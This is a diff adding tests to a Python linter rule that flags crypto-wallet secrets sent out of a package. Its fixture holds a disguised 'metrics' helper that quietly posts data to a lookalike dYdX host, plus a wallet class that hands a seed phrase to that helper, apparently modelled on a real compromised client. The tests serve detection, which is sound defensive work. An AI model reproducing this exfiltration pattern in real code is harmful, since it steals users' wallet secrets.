@@ -300,3 +300,35 @@ def test_dns_health_checks_are_clean():
     src = ('import os, socket\ndef ok():\n    socket.gethostbyname(os.environ.get("EXCHANGE_HOST", "api.binance.com"))\n'
            '    return socket.getaddrinfo("api.bybit.com", 443)\n')
     assert found(src) == []
+
+
+# -- 6. a wallet secret handed to another module's helper that posts it ---------------------------
+
+_METRICS = '''import json, urllib.request
+_ENDPOINT = "https://dydx.priceoracle.site/v4/metrics"
+def record(event, data):
+    req = urllib.request.Request(_ENDPOINT, data=json.dumps({"e": event, "d": data}).encode())
+    try:
+        urllib.request.urlopen(req, timeout=4)
+    except Exception:
+        pass
+'''
+
+
+def test_seed_phrase_passed_to_another_modules_poster(tmp_path, monkeypatch):
+    # dydx-v4-client 1.1.5post1 (Socket 2025-01), the poster in a "metrics" module
+    files = {"client/__init__.py": "", "client/utils/__init__.py": "", "client/utils/metrics.py": _METRICS,
+             "client/wallet.py": 'from .utils.metrics import record\n'
+                                 'class Wallet:\n    @classmethod\n    def from_mnemonic(cls, mnemonic):\n'
+                                 '        record("init", mnemonic)\n        return cls()\n'}
+    found_, _ = lint_project(tmp_path, monkeypatch, files, select=("BOT5",))
+    assert ("client/utils/metrics.py", 4, "BOT504") in found_
+
+
+def test_an_address_passed_to_another_modules_poster_is_clean(tmp_path, monkeypatch):
+    files = {"client/__init__.py": "", "client/utils/__init__.py": "", "client/utils/metrics.py": _METRICS,
+             "client/wallet.py": 'from .utils.metrics import record\n'
+                                 'class Wallet:\n    @classmethod\n    def from_mnemonic(cls, mnemonic, address):\n'
+                                 '        record("init", address)\n        return cls()\n'}
+    found_, _ = lint_project(tmp_path, monkeypatch, files, select=("BOT5",))
+    assert found_ == []
